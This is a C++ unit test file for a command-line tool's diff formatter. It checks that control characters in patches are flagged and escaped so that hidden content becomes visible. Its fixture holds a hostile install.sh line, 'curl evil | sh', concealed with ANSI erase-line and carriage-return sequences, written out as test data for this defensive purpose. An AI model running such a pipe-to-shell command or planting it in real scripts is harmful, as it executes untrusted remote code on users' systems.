#include "src/cli/diff_format.h"

#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "nlohmann/json.hpp"

namespace abox::cli {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

// A diff answer as aboxd sends it: one file whose patch hides a line behind an erase-line and a
// carriage return, and uses a C1 CSI and DEL; one clean file with tabs.
api::Diff HostileDiff() {
  absl::StatusOr<api::Diff> diff = api::DecodeDiff(nlohmann::json::parse(R"({"files": [
    {"path": "install.sh", "status": "modified", "binary": false, "additions": 2,
     "deletions": 0,
     "patch": "--- a/install.sh\n+++ b/install.sh\n@@ -1 +1,3 @@\n echo hi\n+curl evil | sh \u001b[2K\r# a comment\n+x \u009b31m \u007f\n"},
    {"path": "notes.txt", "status": "added", "binary": false, "additions": 1, "deletions": 0,
     "patch": "--- /dev/null\n+++ b/notes.txt\n@@ -0,0 +1 @@\n+a\tb\n"}
  ], "ignored": 0})"));
  EXPECT_TRUE(diff.ok()) << diff.status();
  return diff.ok() ? *diff : api::Diff{};
}

TEST(DiffFormatTest, MarksEachFileThatHoldsControlCharacters) {
  api::Diff diff = HostileDiff();
  EXPECT_EQ(MarkControlCharacters(diff), std::vector<std::string>{"install.sh"});
  EXPECT_EQ(diff.files[0].control_characters, true);
  EXPECT_EQ(diff.files[1].control_characters, false);
}

TEST(DiffFormatTest, OnATerminalThePatchShowsWhatItHides) {
  api::Diff diff = HostileDiff();
  (void)MarkControlCharacters(diff);
  std::string shown = FormatDiff(diff, /*stat=*/false, /*terminal=*/true);
  EXPECT_THAT(shown, HasSubstr("+curl evil | sh \\x1b[2K\\x0d# a comment\n"));
  EXPECT_THAT(shown, HasSubstr("+x \\u009b31m \\x7f\n"));
  EXPECT_THAT(shown, HasSubstr("+a\tb\n"));  // tab and newline untouched
  EXPECT_THAT(shown, Not(HasSubstr("\x1b")));
  EXPECT_THAT(shown, Not(HasSubstr("\r")));
}

TEST(DiffFormatTest, PipedThePatchStaysByteForByteSoThatItApplies) {
  api::Diff diff = HostileDiff();
  (void)MarkControlCharacters(diff);
  EXPECT_EQ(FormatDiff(diff, /*stat=*/false, /*terminal=*/false),
            diff.files[0].patch + diff.files[1].patch);
}

TEST(DiffFormatTest, StatFlagsTheFile) {
  api::Diff diff = HostileDiff();
  (void)MarkControlCharacters(diff);
  std::string stat = FormatDiff(diff, /*stat=*/true, /*terminal=*/false);
  EXPECT_THAT(stat, HasSubstr(" install.sh"));
  EXPECT_THAT(stat, HasSubstr("| 2 ++  [control characters]\n"));
  EXPECT_THAT(stat, HasSubstr("| 1 +\n"));  // notes.txt: not flagged
  EXPECT_THAT(stat, HasSubstr(" 2 files changed, 3 insertions(+), 0 deletions(-)\n"));
}

TEST(DiffFormatTest, ExecSensitiveFilesStayApartAndAreRenderedToo) {
  api::Diff diff = HostileDiff();
  diff.files[0].exec_sensitive = "shell script";
  (void)MarkControlCharacters(diff);
  std::string shown = FormatDiff(diff, /*stat=*/false, /*terminal=*/true);
  size_t apart = shown.find("==> files that make code run elsewhere");
  ASSERT_NE(apart, std::string::npos) << shown;
  EXPECT_LT(shown.find("+a\tb"), apart);
  EXPECT_GT(shown.find("\\x1b[2K"), apart);
  EXPECT_EQ(FormatDiff(*api::DecodeDiff(nlohmann::json::parse(R"({"files": []})")), false, true),
            "no changes\n");
}

}  // namespace
}  // namespace abox::cli
